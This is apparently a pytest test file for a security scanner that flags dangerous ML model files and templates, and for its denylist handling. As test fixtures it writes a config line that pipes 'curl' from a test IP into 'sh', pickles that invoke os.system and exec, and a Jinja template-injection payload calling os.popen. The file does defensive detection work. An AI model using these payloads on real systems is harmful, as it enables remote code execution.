"""The check behind ``labwarden scan``: which assets and files it reads, and what it returns."""

from __future__ import annotations

from pathlib import Path

import pytest

from labwarden.checks.modelfile import ModelFileCheck
from labwarden.checks.registry import all_checks, get_check
from labwarden.checks.standalone import inspect_paths
from labwarden.core.values import AssetKind, Severity
from labwarden.core.workspace import Workspace
from labwarden.inventory.policy import load_policy
from labwarden.inventory.scan import run_scan
from labwarden.inventory.sources.local import LocalSource
from labwarden.store.catalog import Catalog
from labwarden.store.findings import FindingQuery

from .builders import stack_global_call, su


def test_registered_and_named() -> None:
    assert isinstance(get_check("modelfile"), ModelFileCheck)
    assert any(c.name == "modelfile" for c in all_checks())


def test_scan_mode_reads_model_assets_and_templates_not_other_json(tmp_path: Path) -> None:
    model = tmp_path / "models" / "bert"
    model.mkdir(parents=True)
    (model / "config.json").write_text('{"hook": "curl http://203.0.113.8/x.sh | sh"}')
    (model / "pytorch_model.bin").write_bytes(stack_global_call("os", "system", "id"))
    code = tmp_path / "app"
    code.mkdir()
    (code / "package.json").write_text('{"scripts": {"clean": "rm -rf dist"}}')
    (code / "chat.jinja").write_text("{{ cycler.__init__.__globals__.os.popen('id') }}")
    result = inspect_paths([str(tmp_path)], [ModelFileCheck()])
    by_file = {Path(f.location.path).name: f for f in result.findings}
    assert by_file["pytorch_model.bin"].severity is Severity.CRITICAL
    assert by_file["config.json"].rule == "suspicious-config"
    assert by_file["chat.jinja"].severity is Severity.CRITICAL
    assert "package.json" not in by_file
    kinds = {a.kind for a in result.assets if ModelFileCheck().applies_to(a)}
    assert AssetKind.MODEL in kinds


def test_inspect_mode_reads_every_file(tmp_path: Path) -> None:
    (tmp_path / "weights.data").write_bytes(stack_global_call("builtins", "exec", "x"))
    result = inspect_paths([str(tmp_path)], [ModelFileCheck(thorough=True)])
    assert [f.rule for f in result.findings] == ["dangerous-import"]
    assert result.errors == []


def test_a_changed_denylist_rejudges_unchanged_files(
    workspace: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lab = tmp_path / "lab" / "models" / "scorer"
    lab.mkdir(parents=True)
    (lab / "model.pkl").write_bytes(b"\x80\x04" + su("mylab.layers") + su("Block") + b"\x93.")
    policy = load_policy(None)

    def scan() -> list[str]:
        with Catalog.open(workspace) as catalog:
            run_scan(
                catalog, LocalSource([str(tmp_path / "lab")]), policy, checks=[ModelFileCheck()]
            )
            found = catalog.findings.all(FindingQuery(checks=("modelfile",)))
            return [f.finding.severity.value for f in found if f.present]

    assert scan() == ["medium"]
    deny = tmp_path / "deny.toml"
    deny.write_text('[ours]\nreason = "is banned"\nnames = ["mylab.*"]\n')
    monkeypatch.setenv("LABWARDEN_MODELFILE_DENYLIST", str(deny))
    assert scan() == ["critical"]  # the file did not change; the list did
    assert scan() == ["critical"]
